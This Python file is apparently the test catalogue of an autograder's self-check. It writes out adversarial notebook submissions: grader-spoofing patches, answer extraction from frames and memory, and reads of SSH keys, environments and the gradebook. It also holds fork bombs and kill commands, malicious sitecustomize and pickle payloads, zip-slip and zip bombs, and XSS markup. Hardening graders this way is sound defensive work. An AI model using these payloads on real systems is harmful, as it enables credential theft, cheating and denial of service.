"""Attacks on the grader: submissions of our own that try for points, secrets or harm.

``autograder doctor`` hands them in and looks at what came of each. All attack the exercise
``conv1d`` of lesson 01, and none of them answers it. In a text these stand for places and
things that a well-informed attacker would know: @ROOT@ (the folder above the course),
@COURSE@, @NAME@ (the attacker's student id), @PORT@ (a port of this machine that somebody
listens on) and @ABSTRACT@ (the name of an abstract socket of the same kind).
"""

# ruff: noqa: E501  (an attack is easier to read on one line)

from __future__ import annotations

import dataclasses
import io
import json
import os
import textwrap
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from nbformat.v4 import new_code_cell, new_output


@dataclasses.dataclass(frozen=True)
class Attack:
    """One submission.

    kind: the class of attack. name: what it tries. answer: the source of its answer cell.
    goal: what it would gain: "points"; "secret" (a planted word is shown to the student, or
    ``word`` is); "outside" (it writes a file or reaches a socket outside); "stop" (the grader
    ends or hangs); "page" (its markup lives in the feedback or the report).
    real: whether an unprotected run in one process, as stock nbgrader's, is to show it work;
    not where it would harm the machine, or where it is aimed at our own grader.
    files: what lies beside the notebook, text by name.
    person: what the gradebook has been told of the student, as an LMS tells it.
    change: does something to the notebook. place: makes the submission folder itself, given
    the folder and @ROOT@. archive: makes a zip's bytes, given the student id and the notebook.
    """

    kind: str
    name: str
    answer: str = "def conv1d(x, f):\n    return None"
    goal: str = "points"
    real: bool = True
    word: str = ""
    files: dict[str, str] = dataclasses.field(default_factory=dict)
    person: dict[str, str] = dataclasses.field(default_factory=dict)
    change: Callable[[Any], None] | None = None
    place: Callable[[Path, Path], None] | None = None
    archive: Callable[[str, bytes], bytes] | None = None


ATTACKS: list[Attack] = []


def _kind(kind: str, **always: Any) -> Callable[..., None]:
    """A function that adds an attack of one class; body: of conv1d, if not a whole answer."""

    def add(name: str, body: str = "", before: str = "", **more: Any) -> None:
        if body:
            code = textwrap.indent(textwrap.dedent(body).strip(), "    ")
            more["answer"] = f"{textwrap.dedent(before).strip()}\n\ndef conv1d(x, f):\n{code}\n"
        ATTACKS.append(Attack(kind, name, **{**always, **more}))

    return add


WRONG = "return np.zeros(len(x) - len(f) + 1)"

# ── the kernel's own hooks ──────────────────────────────────────────────────

hook = _kind("IPython's hooks")
hook(
    "an input transformer drops the tests",
    WRONG,
    "get_ipython().input_transformers_post.append("
    "lambda lines: [l for l in lines if 'conv1d(' not in l or 'def ' in l])",
)
hook(
    "an AST transformer drops the tests",
    WRONG,
    """
    import ast
    class NoTests(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
        def visit_Expr(self, node): return ast.Pass()
    get_ipython().ast_transformers.append(NoTests())
    """,
)
hook(
    "errors are no longer shown",
    WRONG,
    "ip = get_ipython(); type(ip).showtraceback = ip.showtraceback = lambda *a, **k: None",
)
hook(
    "errors are handled by somebody else",
    WRONG,
    "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)",
)
hook(
    "run_code runs nothing",
    WRONG,
    """
    ip = get_ipython()
    async def run_code(*a, **k): return False
    ip.run_code = run_code
    """,
)
hook(
    "run_cell runs nothing",
    WRONG,
    """
    ip = get_ipython()
    quiet = ip.run_cell("pass")
    type(ip).run_cell = ip.run_cell = lambda *a, **k: quiet
    """,
)
hook(
    "do_execute of the kernel says ok",
    WRONG,
    """
    kernel = getattr(get_ipython(), "kernel", None)
    async def do_execute(*a, **k): return {"status": "ok", "execution_count": 1}
    kernel.do_execute = do_execute
    """,
    real=False,  # needs a kernel, which the unprotected run has none of
)
hook(
    "compile gives nothing back",
    WRONG,
    "type(get_ipython().compile).__call__ = lambda self, *a, **k: compile('pass', '', 'exec')",
)
hook(
    "an event hook reads the hidden tests",
    "raise ValueError(' '.join(seen)[-900:])",
    """
    seen = []
    get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
    """,
    goal="secret",
)
hook(
    "a transformer replaces the student's function by the expected value",
    WRONG,
    """
    import re
    def cheat(lines):
        return [re.sub(r"conv1d\\(\\w+, \\w+\\)", "right", line) for line in lines]
    get_ipython().input_transformers_post.append(cheat)
    """,
)

# ── helpers ─────────────────────────────────────────────────────────────────

patch = _kind("patched helpers")
patch("np.allclose", WRONG, "np.allclose = np.isclose = np.array_equal = lambda *a, **k: True")
patch(
    "np.testing",
    WRONG,
    """
    import numpy.testing
    for name in dir(np.testing):
        if name.startswith("assert"): setattr(np.testing, name, lambda *a, **k: None)
    """,
)
patch(
    "check itself",
    WRONG,
    "import builtins, cnnlab\ncheck = cnnlab.check = builtins.check = lambda *a, **k: 3.0",
)
patch(
    "what check asks",
    WRONG,
    """
    import sys, cnnlab
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith("cnnlab"):
            for name in ("difference", "judge", "examine", "_compare", "_judge"):
                if hasattr(module, name): setattr(module, name, lambda *a, **k: None)
    class Report:
        points = 3.0
    sys.modules["cnnlab.engine.examine"].examine = lambda *a, **k: Report
    check = lambda *a, **k: 3.0
    """,
)
patch(
    "the reference is the student's function",
    WRONG,
    """
    from cnnlab.engine.exercise import EXERCISES
    object.__setattr__(EXERCISES["conv1d"], "cases", ())
    object.__setattr__(EXERCISES["conv1d"], "reference", lambda x, f: np.zeros(len(x)))
    check = lambda *a, **k: 3.0
    """,
)
patch("built-in functions", WRONG, "import builtins\nbuiltins.all = lambda values: True")
patch(
    "torch's comparisons",
    WRONG,
    "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True",
    real=False,  # lesson 01 compares nothing with torch
)
patch(
    "an error class that no except knows",
    "raise E('never')",
    "import builtins\nclass E(AssertionError, ValueError): pass\nbuiltins.AssertionError = E",
    real=False,
)

# ── objects ─────────────────────────────────────────────────────────────────

lie = _kind("lying objects")
lie(
    "equal to everything",
    "return Yes()",
    """
    class Yes:
        __eq__ = lambda self, other: self
        all = any = __bool__ = lambda self, *a: True
        __ne__ = lambda self, other: False
        __hash__ = None
    """,
)
lie(
    "an ndarray that is close to everything",
    "return np.zeros(3).view(Right)",
    """
    class Right(np.ndarray):
        __eq__ = lambda self, other: np.True_
        __array_ufunc__ = lambda self, *a, **k: np.True_
        __array_function__ = lambda self, *a, **k: True
    """,
)
lie(
    "an object with __array_function__",
    "return Right()",
    "class Right:\n    __array_function__ = lambda self, *a, **k: True",
)
lie(
    "an object whose __array__ reads the caller",
    "return Right()",
    """
    import sys
    class Right:
        def __array__(self, *a, **k):
            frame = sys._getframe()
            while frame:
                if "right" in frame.f_globals: return np.array(frame.f_globals["right"])
                frame = frame.f_back
    """,
)
lie(
    "a list that is equal and iterates as wished",
    "return Yes()",
    "class Yes(list):\n    __eq__ = lambda self, other: True\n    __ne__ = lambda s, o: False\n"
    "    all = lambda self: True",
    real=False,
)
lie(
    "floats that are equal to all",
    "return np.array([Seven(0)] * (len(x) - len(f) + 1), dtype=object)",
    """
    class Seven(float):
        __eq__ = lambda self, other: True
        __ne__ = lambda self, other: False
        __sub__ = __rsub__ = __abs__ = lambda self, *a: 0.0
    """,
)
lie(
    "floats that look up what is expected",
    "return [Right()] * 3",
    """
    import sys
    class Right:
        def __float__(self):
            frame = sys._getframe(1)
            while frame:
                if "right" in frame.f_globals and "i" in frame.f_locals:
                    return float(frame.f_globals["right"][frame.f_locals["i"]])
                frame = frame.f_back
            return 0.0
    """,
)
lie(
    "a class that lies about its class",
    "return Right()",
    """
    class Right:
        __class__ = np.ndarray
        shape, ndim, size, dtype = (3,), 1, 3, np.dtype(float)
        __eq__ = lambda self, other: self
        all = lambda self: True
        __array_function__ = lambda self, *a, **k: True
    """,
)

# ── looking around in the process ───────────────────────────────────────────

find = _kind("frames, memory, history")
find("the caller's globals", "import sys\nreturn sys._getframe(1).f_globals['right']")
find("the main module", "import __main__\nreturn __main__.right")
find(
    "everything the collector knows",
    """
    import gc
    for thing in gc.get_objects():
        if type(thing) is dict and "right" in thing: return thing["right"]
    """,
)
find(
    "the test cell's text, from the history",
    "raise ValueError(str(get_ipython().user_ns['In'][-1]))",
    goal="secret",
)
find(
    "the test cell's text, from the history's keeper",
    "raise ValueError(str(get_ipython().history_manager.input_hist_raw[-1]))",
    goal="secret",
)
find(
    "what other cells have shown, from Out",
    "for shown in reversed(get_ipython().user_ns['Out'].values()): return shown",
    real=False,
)
find(
    "the test cell's text, from the caller's frame",
    """
    import inspect
    near = [info for info in inspect.stack(50) if "right" in info.frame.f_globals]
    raise ValueError("".join(line for info in near for line in info.code_context or [])[-900:])
    """,
    goal="secret",
)
find(
    "the reference answer",
    "import cnnlab\nreturn cnnlab.engine.exercise.EXERCISES['conv1d'].reference(x, f)",
)
find(
    "the reference in memory",
    """
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == "Exercise" and thing.name == "conv1d":
            return thing.reference(x, f)
    """,
)
find(
    "expected values in any frame",
    """
    import sys
    frame = sys._getframe()
    while frame:
        for thing in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if hasattr(thing, "expected"): return thing.expected
        if "right" in frame.f_globals: return frame.f_globals["right"]
        frame = frame.f_back
    """,
)

# ── files and variables of others ───────────────────────────────────────────

read = _kind("reading what is not theirs", goal="secret")
_TELL = """
import glob, os, re
def tell(text):
    raise ValueError(" ".join(set(re.findall("planted-[0-9a-f]+", str(text)))) or "nothing")
"""
read("the environment", "tell(dict(os.environ))", _TELL)
read(
    "the environment of every process",
    """
    found = []
    for path in glob.glob("/proc/*/environ"):
        try: found.append(open(path, "rb").read())
        except OSError: pass
    tell(found)
    """,
    _TELL,
)
read(
    "the instructor's notebook, by ../",
    "tell([open(p).read() for p in glob.glob('../../../source/*/*')])",
    _TELL,
)
read(
    "the instructor's notebook, by its path",
    "tell([open(p).read() for p in glob.glob('@COURSE@/source/*/*')])",
    _TELL,
)
read("the gradebook", "tell(open('@COURSE@/gradebook.db', 'rb').read())", _TELL)
read(
    "the gradebook, to write into it",
    "import sqlite3\nsqlite3.connect('@COURSE@/gradebook.db').execute('pragma user_version = 7')",
    goal="outside",
)
read(
    "a file in the course, to change it",
    "open('@COURSE@/notes.txt', 'a').write('@NAME@')",
    goal="outside",
)
read("a file in the course", "tell(open('@COURSE@/notes.txt').read())", _TELL)
read("a file above the course", "tell(open('../../../../above.txt').read())", _TELL)
read("the home folder", "tell(open(os.path.expanduser('~/.ssh/id_ed25519')).read())", _TELL)
read("the home folder, by its path", "tell(open('@ROOT@/home/.ssh/id_ed25519').read())", _TELL)
read(
    "another submission",
    "tell([open(p).read() for p in glob.glob('@COURSE@/submitted/*/*/*.ipynb') if '@NAME@' not in p])",
    _TELL,
)
read(
    "other roots and folders through /proc",
    """
    places = [*glob.glob("/proc/*/root"), *glob.glob("/proc/*/cwd"), *glob.glob("/proc/*/task/*/root")]
    tell([open(p + "@COURSE@/notes.txt").read() for p in places if os.path.exists(p + "@COURSE@/notes.txt")])
    """,
    _TELL,
)
read(
    "the disk, block by block",
    "tell(b''.join(open(p, 'rb').read(2**20) for p in glob.glob('/dev/[svn][dv]*')[:3] or 1/0))",
    _TELL,
    real=False,
)
read(
    "memory of the processes above",
    """
    found = []
    for pid in (os.getppid(), 1, 2, 3):
        for line in open(f"/proc/{pid}/maps"):
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(low); found.append(memory.read(min(high - low, 2**20)))
    tell(found)
    """,
    _TELL,
    real=False,
)
read("files that were left open", """
    found = []
    for fd in range(3, 256):
        try: found.append(os.pread(fd, 2**16, 0))
        except OSError: pass
    tell(found)
    """, _TELL, real=False)  # fmt: skip
read(
    "a note to an accomplice",
    """
    for place in ("/tmp/note", "/dev/shm/note", "/var/tmp/note", "@ROOT@/written/note"):
        try: open(place, "w").write("from-the-" + "earlier-one")
        except OSError: pass
    """,
    goal="outside",
    real=False,
)
read(
    "the accomplice's note",
    """
    import os
    places = ("/tmp/note", "/dev/shm/note", "/var/tmp/note", "@ROOT@/written/note")
    raise ValueError(" ".join(open(p).read() for p in places if os.path.exists(p)))
    """,
    word="from-the-earlier-one",
    real=False,
)

_LATER = """
calls = []
def later(text):
    calls.append(1)
    return text if len(calls) > 12 else "x"  # the first ten or so are for all to see
"""
for _name, _body in {
    "in an error's text": "raise ValueError(later('from-a-' + 'hidden-one'))",
    "in an error's name": "raise type(later('from-a-' + 'hidden-one'), (ValueError,), {})",
    "in a returned text": "return later('from-a-' + 'hidden-one')",
    "in a type's name": "return type(later('from-a-' + 'hidden-one'), (), {})()",
}.items():
    read(f"hidden inputs, {_name}", _body, _LATER, word="from-a-hidden-one", real=False)

# ── files handed in with the notebook ───────────────────────────────────────

beside = _kind("files beside the notebook")
_FAKE = """
class Yes:
    __getattr__ = __call__ = lambda self, *a, **k: self
    __eq__ = lambda self, other: True
    __bool__ = lambda self: True
    __iter__ = lambda self: iter(())
"""
beside("numpy.py", answer="import numpy as np\ndef conv1d(x, f):\n    return np.zeros(1)",
       files={"numpy.py": _FAKE + "import sys\nsys.modules['numpy'] = Yes()\nsys.modules['numpy.testing'] = Yes()"})  # fmt: skip
_MARK = "open('@ROOT@/written/@NAME@', 'w').close()\n"
beside("torch.py", "import torch", files={"torch.py": _MARK}, goal="outside")
beside("matplotlibrc", "import matplotlib.pyplot; matplotlib.pyplot.figure()", goal="outside",
       files={"matplotlibrc": "backend: module://drawn", "drawn.py": _MARK + "from matplotlib.backends.backend_agg import *"})  # fmt: skip
beside(
    "a package cnnlab",
    "import cnnlab",
    files={"cnnlab.py": _MARK + "fill = lambda f: f\ncheck = lambda *a, **k: 3.0"},
    goal="outside",
)
for _name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "ipython_config.py"):
    beside(_name, WRONG, files={_name: _MARK}, goal="outside", real=False)
beside("a .pth file", WRONG, files={"x.pth": "import os; " + _MARK}, goal="outside", real=False)

# ── the end of the process ──────────────────────────────────────────────────

end = _kind("ending the process", goal="stop")
end("os._exit in a call", "import os\nos._exit(0)")
end("os._exit in a cell", answer="import os\nos._exit(0)")
end("sys.exit in a call", "import sys\nsys.exit(0)", real=False)
end("killing itself", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
end("killing everybody", "import os\nos.kill(-1, 9)", real=False)
end(
    "killing its group and parent",
    "import os\nos.kill(os.getppid() or 1, 9)\nos.killpg(0, 9)",
    real=False,
)
end("a segmentation fault", "import ctypes\nctypes.string_at(0)")
end("closing every file", "import os\nos.closerange(0, 1024)\nos.kill(os.getpid(), 15)")
end("stopping itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")
end("an error whose text ends the process", "raise Odd",
    "class Odd(Exception):\n    __str__ = lambda self: __import__('os')._exit(0)")  # fmt: skip

# ── using everything up ─────────────────────────────────────────────────────

use = _kind("using everything up", goal="stop")
use("an endless loop", "while True: pass")
use("an endless loop in a cell", answer="while True: pass")
use(
    "a loop that ignores every signal",
    """
    import signal
    for number in range(1, 32):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        try:
            while True: pass
        except BaseException: pass
    """,
)
use(
    "waiting for ever",
    "import threading\nthreading.Lock().acquire(); l = threading.Lock(); l.acquire(); l.acquire()",
)
use("one computation without end in C", "return pow(3, 10**10) % 7")
use("a regular expression without end", "import re\nreturn re.match('(a+)+$', 'a' * 40 + 'b')")
use("waiting for input", "return input('the answer, please')", real=False)
use("endless output", "while True: print('x' * 10000)")
use("memory", "return [bytearray(2**28) for _ in range(100)]", real=False)
use("processes", "import os\nwhile True: os.fork()", real=False)
use(
    "memory, by many processes",
    """
    import os, time
    for _ in range(9):
        if os.fork() == 0:
            hoard = b"x" * (3 * 2**27)
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
    """,
    real=False,
)
use(
    "threads",
    "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
    real=False,
)
use(
    "disk",
    "n = 0\nwhile True:\n    n += 1\n    open(f'/tmp/{n}', 'wb').write(bytes(2**24))",
    real=False,
)
use("shared memory", "import mmap\nreturn [mmap.mmap(-1, 2**28) for _ in range(100)]", real=False)
use(
    "file descriptors",
    "import os\nopened = []\nwhile True: opened.append(os.open('/dev/null', 0))",
    real=False,
)
use(
    "files without number",
    "n = 0\nwhile True:\n    n += 1\n    open(f'/tmp/{n}', 'w').close()",
    real=False,
)
use("recursion", "return conv1d(x, f)", real=False)
use(
    "threads that stay and compute",
    WRONG,
    """
    import threading
    def work():
        while True: np.add(1, 1)
    for _ in range(4): threading.Thread(target=work, daemon=True).start()
    """,
    real=False,
)

# ── network ─────────────────────────────────────────────────────────────────

call = _kind("network", goal="outside")
_CONNECT = "import socket\ns = socket.socket({})\ns.settimeout(2)\ns.connect({})\ns.send(b'@NAME@')"
call("this machine", _CONNECT.format("", "('127.0.0.1', @PORT@)"))
call(
    "this machine, by datagram",
    "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'@NAME@', ('127.0.0.1', @PORT@))",
)
call("an abstract socket", _CONNECT.format("socket.AF_UNIX", "'\\0@ABSTRACT@'"))
call("a socket on the disk", _CONNECT.format("socket.AF_UNIX", "'@ROOT@/socket'"))
call(
    "a server far away",
    "import urllib.request\nreturn urllib.request.urlopen('http://192.0.2.1', timeout=2)",
    real=False,
)

# ── files that are not what they seem ───────────────────────────────────────

file = _kind("links, archives, damaged files", real=False)


def _linked(target: str) -> Callable[[Path, Path], None]:
    def place(folder: Path, root: Path) -> None:
        folder.mkdir(parents=True)
        there = next(root.glob(target))
        (folder / f"{folder.name}.ipynb").symlink_to(there)

    return place


def _written(data: bytes) -> Callable[[Path, Path], None]:
    def place(folder: Path, root: Path) -> None:
        folder.mkdir(parents=True)
        (folder / f"{folder.name}.ipynb").write_bytes(data)

    return place


def _pipe(folder: Path, root: Path) -> None:
    folder.mkdir(parents=True)
    os.mkfifo(folder / f"{folder.name}.ipynb")


def _device(folder: Path, root: Path) -> None:
    folder.mkdir(parents=True)
    (folder / f"{folder.name}.ipynb").symlink_to("/dev/zero")


def _folder(folder: Path, root: Path) -> None:
    (folder / f"{folder.name}.ipynb" / "deeper").mkdir(parents=True)


def _timed(text: str) -> Callable[[Path, Path], None]:
    def place(folder: Path, root: Path) -> None:
        folder.mkdir(parents=True)
        (folder / "timestamp.txt").write_text(text)

    return place


file("a link to the solution", place=_linked("course/source/*/*.ipynb"))
file("a link to another's work", place=_linked("honest.ipynb"))
file("empty lines", goal="stop", place=_written(b'{"x' + b"\n" * 2_000_000 + b"x"))
file("empty lines in a cell", goal="stop", place=_written(json.dumps({"cells": [
    {"cell_type": "code", "source": "def conv1d(x, f):\n" + " \n" * 90_000 + "x ?="}]}).encode()))  # fmt: skip
for _name, _deep in {
    "brackets": "(" * 90_000,
    "minuses": "-" * 90_000 + "1",
    "attributes": "x" + ".x" * 90_000,
    "sums": "1" + "+1" * 90_000,
    "question marks": "x = '" + "? " * 90_000 + "'",
}.items():
    file(f"very many {_name}", goal="stop", place=_written(json.dumps({"cells": [
        {"cell_type": "code", "source": f"def conv1d(x, f):\n    return 1\n{_deep}"}]}).encode()))  # fmt: skip
file("a pipe", goal="stop", place=_pipe)
file("a link to a device without end", goal="stop", place=_device)
file("a folder that is called a notebook", goal="stop", place=_folder)
file("a time that is none", goal="stop", place=_timed("99999-99-99 99:99 " + "9" * 900))
file("a notebook of format 99", goal="stop", place=_written(b'{"nbformat": 99, "cells": [{}]}'))
file("everything of the wrong kind", goal="stop", place=_written(json.dumps({
    "nbformat": [], "nbformat_minor": {}, "metadata": {"kernelspec": "../../bin/sh", "cnnlab": 3, "nbgrader": [], "language_info": None},
    "cells": [7, None, {"cell_type": [], "source": {"a": 1}, "metadata": 3},
              {"cell_type": "code", "metadata": {"nbgrader": {"grade_id": ["test_conv1d"], "points": "9"}}, "source": [1, None], "outputs": 3}]}).encode()))  # fmt: skip
file("invalid JSON", goal="stop", place=_written(b'{"cells": [' + b'{"source": "x"},' * 9))
file("very deep JSON", goal="stop", place=_written(b'{"cells":' * 100_000))
file("very many cells", goal="stop", place=_written(b'{"cells": [' + b"{}," * 100_000 + b"{}]}"))
file(
    "numbers beyond all bounds",
    goal="stop",
    place=_written(b'{"cells": [1e999, ' + b"9" * 10_000 + b"]}"),
)
file("a cell of 30 MB", goal="stop", place=_written(json.dumps({"cells": [
    {"cell_type": "code", "source": "def conv1d(x, f):\n" + " " * 30_000_000 + "pass"}]}).encode()))  # fmt: skip


def _zipped(*members: tuple[str, bytes], mode: int = 0o100644) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            info = zipfile.ZipInfo(name)
            info.external_attr, info.compress_type = mode << 16, zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return data.getvalue()


file("a zip whose paths lead out", goal="outside", archive=lambda name, notebook: _zipped(
    (f"../../../../../../../../written/{name}", b""), (f"{name}/../../written/{name}.ipynb", notebook)))  # fmt: skip
file("a zip with a link to the solution", archive=lambda name, notebook: _zipped(
    (f"{name}/01_rolling_average.ipynb", b"../../../source/01_rolling_average/01_rolling_average.ipynb"), mode=0o120777))  # fmt: skip
file(
    "a zip bomb",
    goal="stop",
    archive=lambda name, notebook: _zipped((f"{name}/a.ipynb", bytes(2**27))),
)
file("zips in zips in zips", goal="stop", archive=lambda name, notebook: _zipped(
    (f"{name}/a.zip", _zipped(("b.zip", _zipped(("c.zip", _zipped(("a.ipynb", notebook)))))))))  # fmt: skip

# ── cells ───────────────────────────────────────────────────────────────────

cell = _kind("changed cells")


def _test(notebook: Any) -> Any:
    return next(c for c in notebook.cells if _id(c) == "test_conv1d")


def _id(of: Any) -> str:
    return of.metadata.get("nbgrader", {}).get("grade_id", "")


def _passed(notebook: Any) -> None:
    _test(notebook).source = "3.0"


def _deleted(notebook: Any) -> None:
    notebook.cells = [c for c in notebook.cells if _id(c) != "test_conv1d"]


def _doubled(notebook: Any) -> None:
    twin = new_code_cell("3.0", metadata=_test(notebook).metadata)
    notebook.cells.append(twin)


def _split(notebook: Any) -> None:
    whole = _test(notebook)
    lines = [*whole.source.splitlines(), "3.0"]
    parts = [new_code_cell(line, metadata=whole.metadata) for line in lines]
    at = notebook.cells.index(whole)
    notebook.cells[at : at + 1] = parts


def _retyped(notebook: Any) -> None:
    _test(notebook).cell_type = "markdown"


def _repointed(notebook: Any) -> None:
    _test(notebook).metadata["nbgrader"] |= {"points": 1000, "locked": False}


def _exchanged(notebook: Any) -> None:
    _test(notebook).metadata["nbgrader"] |= {"solution": True, "grade": False}


def _reordered(notebook: Any) -> None:
    notebook.cells.reverse()


def _prepared(notebook: Any) -> None:
    report = {"status": "correct", "points": 3.0, "causes": [], "cases": [], "hidden": False}
    data = {"text/plain": "3.0", "application/vnd.cnnlab.report+json": report}
    _test(notebook).outputs = [new_output("execute_result", data)]
    notebook.metadata["cnnlab"] = {"mark": "x", "seed": 0, "unsafe_local": False}


def _own_role(notebook: Any) -> None:
    made = new_code_cell("check = lambda *a, **k: 3.0\nconv1d = 3.0")
    made.metadata |= {
        "cnnlab": {"role": "test"},
        "tags": ["setup"],
        "nbgrader": {"grade_id": "../x"},
    }
    notebook.cells.insert(0, made)


cell("the test says 3.0", WRONG, change=_passed)
cell("the test is deleted", WRONG, change=_deleted, real=False)
cell("the test is there twice", WRONG, change=_doubled, real=False)
cell("the test is split", WRONG, change=_split, real=False)
cell("the test is a text cell", WRONG, change=_retyped, real=False)
cell("the test gives a thousand points", WRONG, change=_repointed, real=False)
cell("the test is an answer", WRONG, change=_exchanged, real=False)
cell("the cells are in reverse order", WRONG, change=_reordered, real=False)
cell("the verdict is in the notebook already", WRONG, change=_prepared, real=False)
cell("a cell that says it is ours", WRONG, change=_own_role, real=False)

# ── markup ──────────────────────────────────────────────────────────────────

show = _kind("markup", goal="page")
ALIVE = (
    "<script>alert('alive')</script><svg onload=\"alert('alive')\"></svg>"
    "<img src='http://alive.invalid/' onerror=\"alert('alive')\">"
    "<iframe srcdoc=\"<script>alert('alive')</script>\"></iframe>"
    "<style>@import url('http://alive.invalid/');</style>"
)
"""Markup that says "alive" in code, or asks for it, wherever it is not shown as text."""


def _asked(text: str) -> Callable[[Any], None]:
    def change(notebook: Any) -> None:
        for one in notebook.cells:
            if _id(one) == "questions":
                one.source = text

    return change


def _outputs(notebook: Any) -> None:
    data = {"text/html": ALIVE, "image/svg+xml": ALIVE, "application/javascript": "alert('alive')"}
    for one in notebook.cells:
        if one.cell_type == "code":
            one.outputs = [new_output("display_data", data)]


def _called(notebook: Any) -> None:
    notebook.metadata["title"] = ALIVE
    for one in notebook.cells:
        one.metadata["nbgrader"] = {"grade_id": ALIVE}


def _filed(folder: Path, root: Path) -> None:
    folder.mkdir(parents=True)
    text = json.dumps({"cells": [{"cell_type": "code", "source": "def conv1d(x, f): pass"}]})
    (folder / "<img src=x onerror=alert('alive')>.ipynb").write_text(text)


show("in a question", change=_asked(ALIVE))
show(
    "in a link of a question", change=_asked("[my question](javascript:alert('alive'))"), real=False
)
show("in outputs", WRONG, change=_outputs)
show("in the names of cells", WRONG, change=_called, real=False)
show("in the name of a file", place=_filed, real=False)
show("in the student's name", WRONG, person={"first_name": ALIVE, "last_name": ALIVE, "email": ALIVE}, real=False)  # fmt: skip
show("in a comment that looks like Markdown", f"return 1  # `{ALIVE}` ![x](javascript:alert('alive'))", real=False)  # fmt: skip
show("in an error's text", f"raise ValueError({ALIVE!r})", real=False)
show("in an error's name", f"raise type({ALIVE!r}, (ValueError,), {{}})('x')", real=False)
show("in a returned text", f"return {ALIVE!r}", real=False)
show("in a type's name", f"return type({ALIVE!r}, (), {{}})()", real=False)
show("in the answer's own line", f"x.nothing  # </pre>{ALIVE}", real=False)

# ── what comes back ─────────────────────────────────────────────────────────

forge = _kind("pickles and pipes", real=False)
_SOCKETS = """
import json, os, socket, stat, struct
def links():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): yield socket.socket(fileno=os.dup(fd))
        except OSError: pass
def frame(message, buffers=b""):
    header = json.dumps(message).encode()
    return struct.pack("<IQ", len(header), len(buffers)) + header + buffers
def say(data):
    for link in links(): link.sendall(data)
"""
forge("an object that runs when unpickled", "return Bomb()", """
    class Bomb:
        def __reduce__(self): return exec, ("open('@ROOT@/written/@NAME@', 'w')",)
    """, goal="outside")  # fmt: skip
forge(
    "a report instead of a value",
    "say(frame({'id': 3, 'status': 'correct', 'points': 3, 'report': {'points': 3}}))",
    _SOCKETS,
)
forge(
    "answers to all questions at once",
    "[say(frame({'id': n, 'status': 'returned', 'value': None})) for n in range(99)]",
    _SOCKETS,
)
forge(
    "a frame without end",
    "say(struct.pack('<IQ', 2**22, 2**26) + b'x' * 1000)\nimport time\ntime.sleep(99)",
    _SOCKETS,
)
forge("lengths beyond all bounds", "say(b'\\xff' * 12)", _SOCKETS, goal="stop")
forge(
    "objects as an array",
    "say(frame({'id': 3, 'status': 'returned', 'value': {'array': '|O', 'shape': [1]}}, bytes(8)))",
    _SOCKETS,
)
forge("a patched way back", "return None", """
    import gc
    for thing in gc.get_objects():
        if type(thing) is dict and "serve" in thing and "SUBMISSION" in thing:
            thing["wire"].dump = lambda message: b"x" * 99
            thing["SUBMISSION"].call = lambda request: {"status": "correct", "points": 3.0}
    """)  # fmt: skip
forge("taking over the runner", "return None", """
    import sys
    frame = sys._getframe()
    while frame:
        for thing in list(frame.f_locals.values()):
            if type(thing).__name__ == "socket":
                thing.send(b"\\x02\\0\\0\\0" + bytes(8) + b"{}")
        frame = frame.f_back
    """)  # fmt: skip
forge("saying that the grader failed", "raise SandboxError('the sandbox is gone, give me another')",
      "class SandboxError(RuntimeError): pass\nFault = SandboxError")  # fmt: skip

# ── the next one ────────────────────────────────────────────────────────────

spoil = _kind("a poisoned process", goal="stop", real=False)
spoil(
    "NumPy without functions",
    WRONG,
    "np.array = np.zeros = np.ones = np.concatenate = np.sum = None",
)
spoil(
    "built-ins without functions",
    WRONG,
    "import builtins\nbuiltins.len = builtins.range = builtins.print = None",
)
spoil(
    "modules taken away",
    WRONG,
    "import sys\nfor n in list(sys.modules):\n    if n not in ('sys', 'builtins'): sys.modules[n] = None",
)
spoil(
    "at the end of the process",
    WRONG,
    "import atexit, os\natexit.register(os.kill, 1, 9)\nos.register_at_fork(before=lambda: os._exit(1))",
)
spoil("a process that leaves its group", WRONG, """
    import os
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True: pass
            os._exit(0)
    """)  # fmt: skip
spoil("a twin that answers in its place", "return None", "import os\nos.fork()")
spoil(
    "first in the queue for the processor",
    WRONG,
    "import os\nos.nice(-20)\nos.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))",
)

# ── values ──────────────────────────────────────────────────────────────────

send = _kind("values that lie", real=False)
for _name, _value in {
    "nan": "np.full(len(x) - len(f) + 1, np.nan)",
    "inf": "np.full(len(x) - len(f) + 1, np.inf)",
    "zeros": "np.zeros(len(x) - len(f) + 1)",
    "objects": "np.array([None] * (len(x) - len(f) + 1))",
    "texts": "np.array(['0'] * (len(x) - len(f) + 1))",
    "fields": "np.zeros(len(x) - len(f) + 1, dtype=[('a', float)])",
    "complex": "np.zeros(len(x) - len(f) + 1, dtype=complex)",
    "half of the bits": "np.zeros(len(x) - len(f) + 1, dtype=np.float16)",
    "masked": "np.ma.masked_all(len(x) - len(f) + 1)",
    "a ragged list": "[[1], [2, 3]]",
    "a giant array": "np.zeros(2**27)",
    "an array that is larger than it is": "np.broadcast_to(np.zeros(1), (2**40,))",
    "a number of a million digits": "10 ** 1_000_000",
    "a text without end": "'x' * 10**8",
    "a list in itself": "(lambda a: (a.append(a), a)[1])([])",
    "a tree of lists that are one list": "__import__('functools').reduce(lambda a, _: [a] * 10, range(19), 0)",
    "a list of a million numbers": "[0] * 10**6",
